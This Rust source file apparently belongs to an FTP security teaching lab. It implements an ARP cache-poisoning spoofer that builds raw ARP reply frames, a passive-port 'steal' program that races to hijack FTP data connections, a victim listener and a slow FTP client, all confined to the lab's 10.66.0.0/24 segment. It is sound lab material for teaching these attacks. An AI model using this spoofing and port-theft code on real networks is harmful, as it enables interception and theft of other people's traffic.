//! `ftplab-lab net …`: the small programs lab 6 runs inside its namespaces: eve's ARP spoofer
//! and port thief, the victim's listener, a slow passive client and a connection probe.
//!
//! Each is bounded in count and time, and the spoofer only speaks for addresses of the lab's
//! segment (10.66.0.0/24), so it cannot poison anything outside the lab.

use crate::error::LabError;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::path::PathBuf;
use std::time::{Duration, Instant};

/// Options of `ftplab-lab net`.
#[derive(Debug, Clone, clap::Args)]
pub struct NetArgs {
    #[command(subcommand)]
    pub program: Program,
}

/// The programs.
#[derive(Debug, Clone, clap::Subcommand)]
pub enum Program {
    /// Eve: tell `a` that `b`'s address is at our MAC and `b` that `a`'s is (ARP replies).
    ArpSpoof {
        /// Our interface.
        #[arg(long, default_value = crate::netns::IFACE)]
        iface: String,
        /// One victim, as IP=MAC.
        #[arg(long, value_parser = parse_host)]
        a: (Ipv4Addr, [u8; 6]),
        /// The other, as IP=MAC.
        #[arg(long, value_parser = parse_host)]
        b: (Ipv4Addr, [u8; 6]),
        /// Pairs of replies to send.
        #[arg(long, default_value_t = 20)]
        count: u32,
        /// Pause between pairs.
        #[arg(long, default_value_t = 250)]
        interval_ms: u64,
    },
    /// Eve: connect to a passive port again and again until it accepts, then keep what arrives.
    Steal {
        /// The server's passive address and port.
        #[arg(long)]
        connect: SocketAddr,
        /// Where the bytes go.
        #[arg(long)]
        out: PathBuf,
        /// Give up after this long.
        #[arg(long, default_value_t = 10_000)]
        limit_ms: u64,
    },
    /// The victim: accept connections on an address and keep what arrives.
    Listen {
        /// Where to listen.
        #[arg(long)]
        bind: SocketAddr,
        /// Where the bytes go.
        #[arg(long)]
        out: PathBuf,
        /// Stop after this long.
        #[arg(long, default_value_t = 10_000)]
        limit_ms: u64,
    },
    /// A client on a slow link: login, PASV, a pause, then RETR on the announced port.
    SlowGet {
        /// The server's control address.
        #[arg(long)]
        server: SocketAddr,
        /// User name (the password is read from stdin).
        #[arg(long)]
        user: String,
        /// The file to download.
        #[arg(long)]
        file: String,
        /// Where the bytes go.
        #[arg(long)]
        out: PathBuf,
        /// The pause between the 227 reply and the data connection.
        #[arg(long, default_value_t = 1000)]
        pause_ms: u64,
    },
    /// Open and close one TCP connection (or be refused): fills both hosts' ARP caches.
    Probe {
        /// Where to connect.
        #[arg(long)]
        connect: SocketAddr,
    },
}

fn parse_host(text: &str) -> Result<(Ipv4Addr, [u8; 6]), String> {
    let (ip, mac) = text
        .split_once('=')
        .ok_or_else(|| format!("{text:?}: expected IP=MAC"))?;
    let ip: Ipv4Addr = ip.parse().map_err(|e| format!("{ip:?}: {e}"))?;
    Ok((ip, parse_mac(mac)?))
}

/// Parses `02:66:00:00:00:01`.
pub fn parse_mac(text: &str) -> Result<[u8; 6], String> {
    let bytes: Vec<u8> = text
        .split(':')
        .map(|b| u8::from_str_radix(b, 16))
        .collect::<Result<_, _>>()
        .map_err(|e| format!("{text:?}: {e}"))?;
    bytes
        .try_into()
        .map_err(|_| format!("{text:?}: a MAC address has six bytes"))
}

/// Runs one program; false when it did not do its job (nothing stolen, nothing received).
pub fn run(args: &NetArgs) -> Result<bool, LabError> {
    match &args.program {
        Program::ArpSpoof {
            iface,
            a,
            b,
            count,
            interval_ms,
        } => arp_spoof(iface, *a, *b, *count, Duration::from_millis(*interval_ms)),
        Program::Steal {
            connect,
            out,
            limit_ms,
        } => steal(*connect, out, Duration::from_millis(*limit_ms)),
        Program::Listen {
            bind,
            out,
            limit_ms,
        } => listen(*bind, out, Duration::from_millis(*limit_ms)),
        Program::SlowGet {
            server,
            user,
            file,
            out,
            pause_ms,
        } => slow_get(*server, user, file, out, Duration::from_millis(*pause_ms)),
        Program::Probe { connect } => {
            let _ = TcpStream::connect_timeout(connect, Duration::from_secs(2));
            Ok(true)
        }
    }
}

/// The lab's segment: the only addresses the spoofer speaks for.
fn in_lab(ip: Ipv4Addr) -> bool {
    let [a, b, c, _] = ip.octets();
    (a, b, c) == (10, 66, 0)
}

/// An Ethernet frame carrying an ARP reply (RFC 826): "`sender_ip` is at `sender_mac`", sent
/// to `target`.
pub fn arp_reply(
    sender_mac: [u8; 6],
    sender_ip: Ipv4Addr,
    target_mac: [u8; 6],
    target_ip: Ipv4Addr,
) -> Vec<u8> {
    let mut f = Vec::with_capacity(42);
    f.extend_from_slice(&target_mac); // Ethernet destination
    f.extend_from_slice(&sender_mac); // Ethernet source
    f.extend_from_slice(&[0x08, 0x06]); // EtherType ARP
    f.extend_from_slice(&[0x00, 0x01]); // hardware type Ethernet
    f.extend_from_slice(&[0x08, 0x00]); // protocol type IPv4
    f.extend_from_slice(&[6, 4]); // address lengths
    f.extend_from_slice(&[0x00, 0x02]); // opcode: reply
    f.extend_from_slice(&sender_mac);
    f.extend_from_slice(&sender_ip.octets());
    f.extend_from_slice(&target_mac);
    f.extend_from_slice(&target_ip.octets());
    f
}

fn arp_spoof(
    iface: &str,
    a: (Ipv4Addr, [u8; 6]),
    b: (Ipv4Addr, [u8; 6]),
    count: u32,
    interval: Duration,
) -> Result<bool, LabError> {
    if !in_lab(a.0) || !in_lab(b.0) {
        return Err(LabError::NeedsRoot(format!(
            "the spoofer only speaks for lab 6's addresses (10.66.0.0/24), not {} or {}",
            a.0, b.0
        )));
    }
    let interface = pnet_datalink::interfaces()
        .into_iter()
        .find(|i| i.name == iface)
        .ok_or_else(|| LabError::NeedsRoot(format!("no interface {iface} here")))?;
    let ours = interface
        .mac
        .map(|m| m.octets())
        .ok_or_else(|| LabError::NeedsRoot(format!("{iface} has no MAC address")))?;
    let mut tx = match pnet_datalink::channel(&interface, pnet_datalink::Config::default()) {
        Ok(pnet_datalink::Channel::Ethernet(tx, _rx)) => tx,
        Ok(_) => return Err(LabError::Missing("pnet gave no Ethernet channel")),
        Err(e) => return Err(LabError::io(format!("cannot send on {iface} (root?)"))(e)),
    };
    for _ in 0..count.min(1000) {
        // To a: "b is at eve's MAC"; to b: "a is at eve's MAC".
        for (victim, claimed) in [(a, b.0), (b, a.0)] {
            let frame = arp_reply(ours, claimed, victim.1, victim.0);
            if let Some(Err(e)) = tx.send_to(&frame, None) {
                return Err(LabError::io("cannot send an ARP reply")(e));
            }
        }
        std::thread::sleep(interval);
    }
    Ok(true)
}

fn steal(connect: SocketAddr, out: &std::path::Path, limit: Duration) -> Result<bool, LabError> {
    let deadline = Instant::now() + limit;
    while Instant::now() < deadline {
        match TcpStream::connect_timeout(&connect, Duration::from_millis(200)) {
            Ok(mut stream) => {
                println!("connected to {connect}");
                let _ = stream.set_read_timeout(Some(deadline - Instant::now()));
                let mut bytes = Vec::new();
                let _ = stream.read_to_end(&mut bytes);
                std::fs::write(out, &bytes)
                    .map_err(LabError::io(format!("cannot write {}", out.display())))?;
                println!("received {} bytes", bytes.len());
                return Ok(!bytes.is_empty());
            }
            Err(_) => std::thread::sleep(Duration::from_millis(5)),
        }
    }
    println!("no connection within {limit:?}");
    Ok(false)
}

fn listen(bind: SocketAddr, out: &std::path::Path, limit: Duration) -> Result<bool, LabError> {
    let listener = std::net::TcpListener::bind(bind)
        .map_err(LabError::io(format!("cannot listen on {bind}")))?;
    listener
        .set_nonblocking(true)
        .map_err(LabError::io("cannot set up the listener"))?;
    println!("listening on {bind}");
    let deadline = Instant::now() + limit;
    let mut total = Vec::new();
    while Instant::now() < deadline {
        match listener.accept() {
            Ok((mut conn, from)) => {
                let _ = conn.set_nonblocking(false);
                let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
                let mut bytes = Vec::new();
                let _ = conn.read_to_end(&mut bytes);
                println!("connection from {from}: received {} bytes", bytes.len());
                total.extend_from_slice(&bytes);
                std::fs::write(out, &total)
                    .map_err(LabError::io(format!("cannot write {}", out.display())))?;
            }
            Err(_) => std::thread::sleep(Duration::from_millis(20)),
        }
    }
    Ok(!total.is_empty())
}

/// Reads one reply (single- or multi-line) from the control connection, at most 64 KiB.
fn reply(r: &mut impl std::io::BufRead) -> Result<(u16, String), LabError> {
    let mut text = String::new();
    let mut code = None;
    for _ in 0..1000 {
        let mut line = String::new();
        let n = r
            .read_line(&mut line)
            .map_err(LabError::io("the server closed the control connection"))?;
        if n == 0 || text.len() > 65536 {
            break;
        }
        text.push_str(&line);
        let head = line.get(..3).and_then(|c| c.parse::<u16>().ok());
        let first = *code.get_or_insert(head.unwrap_or(0));
        if head == Some(first) && line.as_bytes().get(3) == Some(&b' ') {
            return Ok((first, text));
        }
    }
    Err(LabError::Missing("the server's reply did not end"))
}

fn slow_get(
    server: SocketAddr,
    user: &str,
    file: &str,
    out: &std::path::Path,
    pause: Duration,
) -> Result<bool, LabError> {
    let mut password = String::new();
    std::io::stdin()
        .read_line(&mut password)
        .map_err(LabError::io("cannot read the password from stdin"))?;
    let control = TcpStream::connect_timeout(&server, Duration::from_secs(5))
        .map_err(LabError::io(format!("cannot connect to {server}")))?;
    let _ = control.set_read_timeout(Some(Duration::from_secs(20)));
    let mut w = control
        .try_clone()
        .map_err(LabError::io("cannot use the control connection"))?;
    let mut r = std::io::BufReader::new(control);
    let mut send = |line: &str| -> Result<(), LabError> {
        w.write_all(format!("{line}\r\n").as_bytes())
            .map_err(LabError::io("cannot write to the control connection"))
    };
    reply(&mut r)?;
    send(&format!("USER {user}"))?;
    reply(&mut r)?;
    send(&format!("PASS {}", password.trim_end()))?;
    if reply(&mut r)?.0 != 230 {
        println!("login refused");
        return Ok(false);
    }
    send("TYPE I")?;
    reply(&mut r)?;
    send("PASV")?;
    let (code, text) = reply(&mut r)?;
    let port = crate::lab::announced_port(&text).filter(|_| code == 227);
    let Some(port) = port else {
        println!("no passive port: {}", text.trim());
        return Ok(false);
    };
    println!("227 announced port {port}; waiting {pause:?} (a slow link)");
    std::thread::sleep(pause);
    let data =
        TcpStream::connect_timeout(&SocketAddr::new(server.ip(), port), Duration::from_secs(5));
    send(&format!("RETR {file}"))?;
    let (code, _) = reply(&mut r)?;
    let mut bytes = Vec::new();
    if let Ok(mut data) = data {
        let _ = data.set_read_timeout(Some(Duration::from_secs(5)));
        if code == 150 || code == 125 {
            let _ = data.read_to_end(&mut bytes);
        }
    }
    let (end, text) = if code == 150 || code == 125 {
        reply(&mut r)?
    } else {
        (code, String::new())
    };
    println!(
        "RETR: {code}, then {end} {}; received {} bytes",
        text.trim(),
        bytes.len()
    );
    std::fs::write(out, &bytes).map_err(LabError::io(format!("cannot write {}", out.display())))?;
    let _ = send("QUIT");
    Ok(end == 226 && !bytes.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_arp_reply_says_who_is_at_which_mac() {
        let f = arp_reply(
            [2, 0x66, 0, 0, 0, 3],
            Ipv4Addr::new(10, 66, 0, 2),
            [2, 0x66, 0, 0, 0, 1],
            Ipv4Addr::new(10, 66, 0, 1),
        );
        assert_eq!(f.len(), 42);
        assert_eq!(&f[12..14], &[0x08, 0x06]);
        assert_eq!(&f[20..22], &[0, 2]);
        assert_eq!(&f[22..28], &[2, 0x66, 0, 0, 0, 3]);
        assert_eq!(&f[28..32], &[10, 66, 0, 2]);
        assert_eq!(&f[38..42], &[10, 66, 0, 1]);
    }

    #[test]
    fn the_spoofer_speaks_only_for_the_lab() {
        assert!(in_lab(Ipv4Addr::new(10, 66, 0, 9)));
        assert!(!in_lab(Ipv4Addr::new(192, 168, 1, 1)));
        assert_eq!(parse_mac("02:66:00:00:00:0a"), Ok([2, 0x66, 0, 0, 0, 10]));
        assert!(parse_mac("02:66").is_err());
    }
}
